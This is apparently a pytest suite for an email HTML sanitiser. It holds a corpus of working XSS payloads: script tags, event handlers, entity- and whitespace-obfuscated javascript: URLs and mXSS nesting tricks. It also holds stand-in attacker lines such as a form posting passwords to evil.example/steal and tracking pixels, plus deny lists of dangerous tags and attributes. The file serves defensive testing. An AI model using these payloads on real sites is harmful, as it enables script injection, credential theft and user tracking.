"""No script runs and nothing remote loads from a sanitised mail: an XSS corpus, checked by parsing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from services.conversations.mail.sanitize import rewrite_cid, sanitize_html

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
    "input", "button", "select", "textarea", "option", "link", "meta", "base", "video", "audio", "source",
    "track", "image", "template", "noscript", "xmp", "marquee", "isindex", "details", "dialog", "portal",
    "body", "html", "head", "title", "animate", "set", "use", "foreignobject",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {
    "style", "srcdoc", "formaction", "action", "background", "srcset", "poster", "data", "dynsrc", "lowsrc",
    "ping", "xlink:href", "target", "id", "class", "name", "form", "http-equiv", "content", "codebase",
}  # fmt: skip
SAFE_LINK = re.compile(r"^(?:https?://|mailto:|tel:)", re.IGNORECASE)
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]")


class Inspector(HTMLParser):
    """Collects every tag and attribute of sanitised output as a browser-like tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.elements


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attributes.items():
            assert not name.startswith("on"), f"handler {name} survived in {html!r}"
            assert name not in FORBIDDEN_ATTRIBUTES, f"attribute {name} survived in {html!r}"
            plain = INVISIBLE.sub("", value).lower()
            assert "javascript:" not in plain and "vbscript:" not in plain, html
            assert not plain.startswith("data:"), html
            if name in ("href", "cite"):
                assert SAFE_LINK.match(plain), f"{name}={value!r} survived in {html!r}"
            if name == "src":
                assert tag == "img" and plain.startswith("cid:"), f"src={value!r} survived in {html!r}"
        if tag == "a":
            assert set(attributes.get("rel", "").split()) >= {"noopener", "noreferrer", "nofollow"}


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=\"cid:x\" onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    "<a href='java&#115;cript:alert(1)'>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkAAIAAA'
    'oAAv/lxKUAAAAASUVORK5CYII=">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="background-image:url(https://tracker.example/p.gif)">x</p>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/"><a href="page">relative</a>',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>x</body>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    '&#0000083&#0000039&#0000041">',
    '<table background="javascript:alert(1)"><tr><td background="https://tracker.example/x">x</td></tr></table>',
    '<img srcset="https://evil.example/x 1x">',
    '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
    '<input type="image" src="https://evil.example/x">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>custom element</x>",
    "<isindex action=javascript:alert(1) type=image>",
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<a href="//evil.example/">protocol-relative</a>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    '<p id="login" class="btn btn-primary" name="x">spoof our interface</p>',
    '<a href="cid:part1@x">cid in a link</a>',
    '<a href="javascript:alert(1)"',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<IMG\nSRC\n=\n"j\na\nv\na\ns\nc\nr\ni\np\nt\n:\na\nl\ne\nr\nt\n(\n1\n)\n">',
    '<div><a href="https://ok.example">fine</a>'
    '<script>document.write("<img src=x onerror=alert(1)>")</script></div>',
    '<a href="\u200bjavascript:alert(1)">zero-width</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="https://ok.example" ping="https://tracker.example/ping">ping</a>',
    "<portal src=https://evil.example></portal>",
]


def test_the_corpus_is_big_enough() -> None:
    assert len(XSS) >= 40


@pytest.mark.parametrize("vector", XSS)
def test_xss_vector_leaves_nothing_that_can_run_or_load(vector: str) -> None:
    cleaned = sanitize_html(vector).html
    assert_harmless(cleaned)
    # sanitising again changes nothing: the output does not re-parse into something else
    assert sanitize_html(cleaned).html == cleaned


@pytest.mark.parametrize("vector", XSS)
def test_xss_vector_in_mixed_case_and_nested_in_formatting(vector: str) -> None:
    wrapped = f"<DiV><B><TaBle><tr><td>{vector.upper()}</td></tr></TaBle></B></DiV><p>after"
    assert_harmless(sanitize_html(wrapped).html)


def test_formatting_links_and_tables_survive() -> None:
    html = (
        '<div dir="ltr"><h2>Order</h2><p>Dzień dobry, <b>paczka</b> <i>nie</i> <u>dotarła</u>.</p>'
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote>old</blockquote>'
        '<table border="1"><tr><td colspan="2">cell</td></tr></table><pre>  code</pre>'
        '<a href="https://shop.example/orders/1?a=1&amp;b=2">order</a> <a href="mailto:a@b.pl">mail</a>'
        '<font color="red">red</font><br><hr></div>'
    )
    cleaned = sanitize_html(html).html
    assert_harmless(cleaned)
    for kept in (
        "<h2>Order</h2>",
        "<b>paczka</b>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>old</blockquote>",
        '<td colspan="2">cell</td>',
        "<pre>  code</pre>",
        'href="https://shop.example/orders/1?a=1&amp;b=2"',
        'href="mailto:a@b.pl"',
        '<font color="red">',
    ):
        assert kept in cleaned


def test_links_get_rel_and_lose_target() -> None:
    cleaned = sanitize_html('<a href="https://ok.example" target="_blank" rel="opener">x</a>').html
    assert cleaned == '<a href="https://ok.example" rel="noopener noreferrer nofollow">x</a>'


def test_remote_images_are_dropped_and_counted_cid_images_kept() -> None:
    result = sanitize_html(
        '<img src="https://tracker.example/a.gif"><img src="http://cdn.example/b.png" alt="logo">'
        '<img src="cid:logo@x" alt="ours"><img src="HTTPS://tracker.example/c.gif">'
    )
    assert result.remote_images_blocked == 3
    assert result.html == '<img><img alt="logo"><img src="cid:logo@x" alt="ours"><img>'


def test_nul_bytes_and_entities_do_not_smuggle_tags() -> None:
    cleaned = sanitize_html("<scr\x00ipt>alert(1)</script>&lt;script&gt;alert(1)&lt;/script&gt;").html
    assert_harmless(cleaned)
    assert "<script" not in cleaned.lower()


def test_rewrite_cid_points_images_at_served_urls() -> None:
    html = sanitize_html(
        '<p>x</p><img alt="a &quot;b&quot; > c" src="cid:image001.png@01DA">'
        '<img src="cid:Part%401"><img src="cid:unknown">'
    ).html
    rewritten = rewrite_cid(html, {"<image001.png@01DA>": "/api/v1/attachments/7?x=1&y=2", "Part@1": "/a/8"})
    assert '<img alt="a &quot;b&quot; &gt; c" src="/api/v1/attachments/7?x=1&amp;y=2">' in rewritten
    assert '<img src="/a/8">' in rewritten
    assert rewritten.endswith("<img>")  # an unknown id loses its src
    assert "cid:" not in rewritten


def test_rewrite_cid_leaves_text_alone() -> None:
    html = sanitize_html('<p>literally src="cid:x" in text</p>').html
    assert rewrite_cid(html, {"x": "/a/1"}) == html
